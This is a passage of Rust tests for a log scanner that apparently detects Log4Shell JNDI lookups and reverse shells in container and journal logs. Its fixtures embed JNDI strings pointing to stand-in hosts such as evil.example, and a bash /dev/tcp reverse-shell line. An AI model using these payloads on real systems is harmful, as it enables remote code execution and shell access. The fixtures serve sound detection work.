            "{{\"log\":\"{pad}${{jn\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:00Z\"}}\n\
{{\"log\":\"GET / 200\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T14:00:01Z\"}}\n\
{{\"log\":\"di:ldap://evil.example/a}}\\n\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:02Z\"}}\n"
        );
        let scan = scan_stream(json.as_bytes(), LogFormat::JsonFile, &engine, &cfg, &loc, 0);
        let hits: Vec<_> = scan
            .hits
            .iter()
            .filter(|h| h.found.jndi.is_some())
            .map(|h| (h.locator.line, h.stream.clone()))
            .collect();
        assert_eq!(hits, [(Some(1), Some("stderr".to_string()))]);
    }

    #[test]
    fn journal_export_entries_joined_per_container_and_stream() {
        // Two containers interleaved; container a's message is cut in two partial entries with
        // container b's entry between them; a binary MESSAGE field holds a newline.
        let mut log = Vec::new();
        let entry = |fields: &[(&str, &str)]| {
            let mut e = String::new();
            for (k, v) in fields {
                e.push_str(&format!("{k}={v}\n"));
            }
            e.push('\n');
            e.into_bytes()
        };
        log.extend(entry(&[
            ("__CURSOR", "s=1"),
            ("__REALTIME_TIMESTAMP", "1764252000123456"),
            ("PRIORITY", "6"),
            ("CONTAINER_ID", "aaaa"),
            ("CONTAINER_PARTIAL_MESSAGE", "true"),
            ("MESSAGE", "GET /?q=${jn"),
        ]));
        log.extend(entry(&[
            ("__CURSOR", "s=2"),
            ("PRIORITY", "6"),
            ("CONTAINER_ID", "bbbb"),
            ("MESSAGE", "di:ldap://not.joined/}"),
        ]));
        log.extend(entry(&[
            ("__CURSOR", "s=3"),
            ("PRIORITY", "6"),
            ("CONTAINER_ID", "aaaa"),
            ("MESSAGE", "di:ldap://journal.example/a} HTTP/1.1"),
        ]));
        log.extend(b"__CURSOR=s=4\nPRIORITY=3\nCONTAINER_ID=cccc\nMESSAGE\n");
        let bin = b"line one\nbash -i >& /dev/tcp/10.9.8.7/4444 0>&1";
        log.extend((bin.len() as u64).to_le_bytes());
        log.extend(bin);
        log.extend(b"\n\n");
        let engine = Engine::builtin().unwrap();
        let loc = Locator::artifact("journal.export");
        for buf_size in [100, 1 << 20] {
            let cfg = ScanConfig { buf_size, max_record: 64, ..Default::default() };
            let scan = scan_stream(&log[..], LogFormat::Journal, &engine, &cfg, &loc, 0);
            let jndi: Vec<_> = scan
                .hits
                .iter()
                .filter_map(|h| h.found.jndi.as_ref().map(|j| (h.locator.line, j.host.clone())))
                .collect();
            assert_eq!(jndi, [(Some(1), Some("journal.example".to_string()))], "buf {buf_size}");
            let first = scan.hits.iter().find(|h| h.found.jndi.is_some()).unwrap();
            assert_eq!(first.time.map(|t| t.to_iso()).as_deref(), Some("2025-11-27T14:00:00.123456000Z"));
            assert_eq!(first.stream.as_deref(), Some("stdout"));
            assert!(
                scan.hits.iter().any(|h| h.stream.as_deref() == Some("stderr") && h.excerpt.contains("/dev/tcp/10.9.8.7")),
                "binary MESSAGE field, stderr by PRIORITY"
            );
        }
        assert_eq!(LogFormat::sniff(b"__CURSOR=s=1;i=2\n"), LogFormat::Journal);
        // `journalctl -o json`: one object per line, the same joins.
        let json = b"{\"__CURSOR\":\"s=1\",\"__REALTIME_TIMESTAMP\":\"1764252000000000\",\"PRIORITY\":\"6\",\"CONTAINER_ID\":\"aaaa\",\"CONTAINER_PARTIAL_MESSAGE\":\"true\",\"MESSAGE\":\"GET /?q=${jn\"}\n\
{\"__CURSOR\":\"s=2\",\"__REALTIME_TIMESTAMP\":\"1764252000000001\",\"PRIORITY\":\"6\",\"CONTAINER_ID\":\"bbbb\",\"MESSAGE\":\"noise\"}\n\
{\"__CURSOR\":\"s=3\",\"__REALTIME_TIMESTAMP\":\"1764252000000002\",\"PRIORITY\":\"6\",\"CONTAINER_ID\":\"aaaa\",\"MESSAGE\":[100,105,58,108,100,97,112,58,47,47,106,46,101,120,97,109,112,108,101,47,97,125]}\n";
        assert_eq!(LogFormat::sniff(json), LogFormat::Journal);
        let scan = scan_stream(&json[..], LogFormat::Journal, &engine, &ScanConfig::default(), &loc, 0);
        let jndi: Vec<_> = scan
            .hits
            .iter()
            .filter_map(|h| h.found.jndi.as_ref().map(|j| (h.locator.line, j.host.clone())))
            .collect();
        assert_eq!(jndi, [(Some(1), Some("j.example".to_string()))]);
    }

    #[test]
    fn journal_binary_field_claiming_a_huge_length_is_bounded() {
        let mut log = b"__CURSOR=s=1\nMESSAGE\n".to_vec();
        log.extend((1u64 << 40).to_le_bytes());
        log.extend(std::iter::repeat_n(b'a', 200_000));
        log.push(b'\n');
        let engine = Engine::builtin().unwrap();
        let cfg = ScanConfig { max_join: 4096, ..Default::default() };
        let scan = scan_stream(&log[..], LogFormat::Journal, &engine, &cfg, &Locator::artifact("j"), 0);
        assert!(scan.hits.is_empty());
        assert_eq!(scan.bytes, log.len() as u64);
    }
}
